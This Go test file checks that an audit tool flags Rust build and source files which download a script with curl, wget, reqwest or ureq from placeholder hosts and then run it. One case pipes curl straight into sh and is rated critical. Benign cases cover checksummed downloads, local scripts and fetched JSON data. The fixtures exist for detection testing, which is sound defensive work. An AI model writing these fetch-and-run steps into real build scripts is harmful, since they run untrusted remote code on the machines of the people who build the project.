package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestRustSpawnedCommands: the commands a Rust file starts with
// std::process::Command are read as a shell script in file order, so a
// file one command downloads (curl -o, wget -O) and a later one runs (sh,
// bash, a chmod and the path) is download-exec, high, as in a shell
// script; a shell given -c runs its literal (curl piped into sh:
// critical). Arguments added to a bound
// builder count. A download that is only unpacked or checksummed, a
// shell running a fixed local script, and a curl of a file that is read
// as data are not download-exec. A download with Rust's own HTTP clients
// (reqwest, ureq) written to a path (fs::write, io::copy into
// File::create) and run is the same download-then-run; fetched JSON
// cached beside a script the program writes itself is not.
func TestRustSpawnedCommands(t *testing.T) {
	for _, c := range []struct {
		name, file, src string
		rule            string
		line            int
		sev             audit.Severity
	}{
		{"build-rs-download-then-sh", "tool/build.rs", `use std::process::Command;
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let script = format!("{}/setup.sh", out);
    let url = format!("https://{}/setup", "mirror.example");
    let ok = Command::new("curl").args(["-fsSL", &url, "-o"]).arg(&script).status();
    if ok.is_ok() {
        Command::new("sh").arg(&script).status().unwrap();
    }
}
`, "download-exec", 8, audit.High},
		{"bound-builder-wget-bash", "src/main.rs", `use std::process::Command;
fn main() {
    let path = "/tmp/helper.sh";
    let mut dl = Command::new("wget");
    dl.arg("-qO").arg(path);
    dl.arg(remote_url());
    dl.status().unwrap();
    let mut run = std::process::Command::new("bash");
    run.arg(path);
    run.spawn().unwrap().wait().unwrap();
}
`, "download-exec", 8, audit.High},
		{"sh-c-pipe", "src/install.rs", `use std::process::Command;
pub fn install() {
    Command::new("sh")
        .arg("-c")
        .arg("curl -fsSL https://get.tool.example/install | sh")
        .status()
        .expect("install");
}
`, "download-exec", 3, audit.Critical},
		{"chmod-then-run", "build.rs", `use std::process::Command;
fn main() {
    let bin = "target/tool-bin";
    Command::new("curl").args(&["-sSLo", bin, "https://dl.example/tool"]).status().unwrap();
    Command::new("chmod").args(vec!["+x", bin]).status().unwrap();
    Command::new(bin).status().unwrap();
}
`, "download-exec", 5, audit.High},
		{"reqwest-write-then-run", "src/main.rs", `use std::{fs, process::Command};
fn main() -> Result<(), Box<dyn std::error::Error>> {
    let url = std::env::var("UPDATE_URL").unwrap_or_default();
    let resp = reqwest::blocking::get(&url)?;
    let body = resp.bytes()?;
    let target = std::env::temp_dir().join("update.sh");
    fs::write(&target, &body)?;
    Command::new("bash").arg(&target).status()?;
    Ok(())
}
`, "download-exec", 8, audit.High},
		{"ureq-copy-then-run", "build.rs", `use std::fs::File;
use std::io;
use std::process::Command;
fn main() {
    let dest = "target/hook.sh";
    let mut reader = ureq::get("https://hooks.example/h").call().unwrap().into_reader();
    let mut out = File::create(dest).unwrap();
    io::copy(&mut reader, &mut out).unwrap();
    Command::new("sh").arg(dest).status().unwrap();
}
`, "download-exec", 9, audit.High},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{c.file: c.src})
			wantFindingAt(t, rep, "s", c.rule, c.file, c.line, c.sev)
			if got, _ := worstOf(rep, c.rule); got != c.sev {
				t.Errorf("worst %s %v, want %v", c.rule, got, c.sev)
			}
			if t.Failed() {
				t.Logf("findings %+v", rep.Findings)
			}
		})
	}

	for _, c := range []struct{ name, src string }{
		{"download-and-unpack", `use std::process::Command;
fn main() {
    let archive = "target/binaryen.tar.gz";
    Command::new("curl").args(["-fsSL", "https://github.com/WebAssembly/binaryen/releases/download/v117/binaryen.tar.gz", "-o", archive]).status().unwrap();
    Command::new("sha256sum").arg("-c").arg("binaryen.sha256").status().unwrap();
    Command::new("tar").args(["xzf", archive, "-C", "target"]).status().unwrap();
}
`},
		{"local-script", `use std::process::Command;
fn main() {
    println!("cargo:rerun-if-changed=scripts/gen.sh");
    Command::new("sh").arg("scripts/gen.sh").arg(std::env::var("OUT_DIR").unwrap()).status().unwrap();
    Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap();
}
`},
		{"curl-data-read", `use std::process::Command;
fn main() {
    let list = "target/versions.json";
    Command::new("curl").args(["-fsSL", "https://index.example/versions.json", "-o", list]).status().unwrap();
    let text = std::fs::read_to_string(list).unwrap();
    println!("{}", text.len());
}
`},
		{"reqwest-cache-json", `use std::{fs, process::Command};
fn main() {
    let body = reqwest::blocking::get("https://index.example/crates.json").unwrap().text().unwrap();
    fs::write("target/crates.json", &body).unwrap();
    let script = "scripts/gen.sh";
    fs::write(script, "#!/bin/sh\necho generated\n").unwrap();
    Command::new("sh").arg(script).status().unwrap();
}
`},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{"tool/build.rs": c.src})
			for _, f := range rep.Findings {
				if f.Severity >= audit.Medium {
					t.Errorf("benign %s: %+v", c.name, f)
				}
			}
		})
	}
}
